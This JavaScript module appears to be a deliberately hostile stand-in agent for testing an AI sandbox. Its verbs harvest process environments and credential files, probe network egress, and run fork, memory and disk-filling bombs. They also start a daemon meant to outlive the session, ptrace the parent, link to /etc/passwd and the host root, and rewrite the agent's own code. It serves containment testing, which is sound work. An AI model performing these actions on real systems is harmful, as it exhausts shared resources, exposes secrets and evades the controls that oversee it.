// An agent that means harm. Its prompt is one [verb, ...arguments], its answer what came of it.

import { spawn, spawnSync } from "node:child_process";
import * as fs from "node:fs";
import { request } from "node:http";
import net from "node:net";

const attempt = (action) => {
  try {
    return action() ?? "done";
  } catch (error) {
    return error.code ?? String(error);
  }
};
const forever = () => new Promise((resolve) => setTimeout(resolve, 600_000));

/** Every path that can be listed, but for the system's own directories. */
function* walk(dir, depth = 0) {
  const entries = attempt(() => fs.readdirSync(dir, { withFileTypes: true }));
  if (!Array.isArray(entries) || depth > 12) return;
  for (const entry of entries) {
    const path = `${dir === "/" ? "" : dir}/${entry.name}`;
    if (["/proc", "/usr", "/dev", "/sys"].includes(path)) continue;
    yield path;
    if (entry.isDirectory()) yield* walk(path, depth + 1);
  }
}

const connect = (host, port) =>
  new Promise((resolve) => {
    const socket = net.connect({ host, port, timeout: 2_000 });
    const end = (word) => (socket.destroy(), resolve(word));
    socket.once("connect", () => end("connected"));
    socket.once("timeout", () => end("timeout"));
    socket.once("error", (error) => end(error.code));
  });

const tunnel = (host, port) =>
  new Promise((resolve) => {
    const asked = request(process.env.HTTP_PROXY, { method: "CONNECT", path: `${host}:${port}` });
    asked.once("connect", (response, socket) => (socket.destroy(), resolve(response.statusCode)));
    asked.once("error", (error) => resolve(error.code));
    asked.end();
  });

const python = (source) => String(spawnSync("python3", ["-I", "-c", source], { encoding: "utf8" }).stdout).trim();

const verbs = {
  write: (path, text) => attempt(() => fs.writeFileSync(path, text)),
  find: (name) => [...walk("/")].filter((path) => path.includes(name)),
  read: (...paths) => paths.map((path) => attempt(() => fs.readFileSync(path, "utf8"))),
  /** Environments and command lines of all processes that can be seen. */
  spy() {
    const pids = fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name));
    const texts = pids.flatMap((pid) =>
      ["environ", "cmdline"].map((name) => attempt(() => fs.readFileSync(`/proc/${pid}/${name}`, "utf8"))),
    );
    return { processes: pids.length, text: texts.join("\n") + JSON.stringify(process.env) };
  },
  async reach(...targets) {
    const said = [];
    for (const [host, port] of targets) said.push([await connect(host, port), await tunnel(host, port)]);
    return said;
  },
  async forkBomb() {
    const refused = Promise.withResolvers();
    const one = () => {
      const child = spawn("sh", ["-c", "sleep 300 & sleep 300"], { stdio: "ignore" });
      child.once("error", refused.reject);
      child.once("spawn", () => setImmediate(one));
    };
    one();
    await refused.promise;
  },
  async memoryBomb() {
    const grow = "held = []\nwhile True: held.append(bytearray(64 << 20))";
    const ends = Array.from({ length: 4 }, () => {
      const child = spawn("python3", [
        "-I",
        "-c",
        `${grow.replace("True", "len(held) < 7")}\nimport time; time.sleep(600)`,
      ]);
      return new Promise((_resolve, reject) =>
        child.once("exit", (code, signal) => reject(new Error(`${signal ?? code}`))),
      );
    });
    await Promise.all(ends);
  },
  async fillDisk() {
    const chunk = Buffer.alloc(8 << 20, 7);
    for (let i = 0; ; i++) {
      fs.writeFileSync(`fill-${i % 32}`, chunk, { flag: "a" });
      await new Promise((resolve) => setImmediate(resolve));
    }
  },
  fillTmp() {
    const chunk = Buffer.alloc(8 << 20, 7);
    for (;;) fs.writeFileSync("/tmp/fill", chunk, { flag: "a" });
  },
  leakDescriptors() {
    for (;;) fs.openSync("/agent/src/agent.mjs");
  },
  async daemon(mark) {
    const loop = `while :; do sleep 0.05; done # ${mark}`;
    spawn("sh", ["-c", `setsid sh -c '${loop}' </dev/null >/dev/null 2>&1 & exit 0`], { stdio: "ignore" });
    await new Promise((resolve) => setTimeout(resolve, 200));
    return "started";
  },
  ptrace: () =>
    python(
      "import ctypes, errno, os\n" +
        "libc = ctypes.CDLL(None, use_errno=True)\n" +
        "libc.ptrace(16, os.getppid(), 0, 0)\n" +
        "print(errno.errorcode[ctypes.get_errno()])",
    ),
  links: (host) => [
    attempt(() => fs.linkSync("/agent/src/agent.mjs", "hard")),
    attempt(() => fs.linkSync("/etc/passwd", "passwd")),
    attempt(() => fs.symlinkSync("/etc/passwd", "soft-passwd")),
    attempt(() => fs.symlinkSync(`../../../../../../..${host}`, "soft-host")),
    attempt(() => fs.symlinkSync(host.slice(0, host.lastIndexOf("/")), "soft-dir")),
    attempt(() => fs.symlinkSync("/proc/1/root", "soft-root")),
  ],
  writeImage: () => [
    attempt(() => fs.writeFileSync("/agent/src/agent.mjs", "export const agent = () => 'changed'")),
    attempt(() => fs.writeFileSync("/agent/new.mjs", "")),
    attempt(() => fs.unlinkSync("/agent/src/agent.mjs")),
    attempt(() => fs.chmodSync("/agent/src/agent.mjs", 0o777)),
    attempt(() => fs.renameSync("/agent/src", "/agent/other")),
  ],
  async flood(bytes) {
    const chunk = Buffer.alloc(1 << 20, "x");
    for (let written = 0; written < bytes; written += chunk.length) {
      if (!process.stdout.write(chunk)) await new Promise((resolve) => process.stdout.once("drain", resolve));
    }
    return "written";
  },
  forever,
};

export async function agent(prompt) {
  const [verb, ...args] = JSON.parse(prompt);
  return JSON.stringify((await verbs[verb](...args)) ?? null);
}
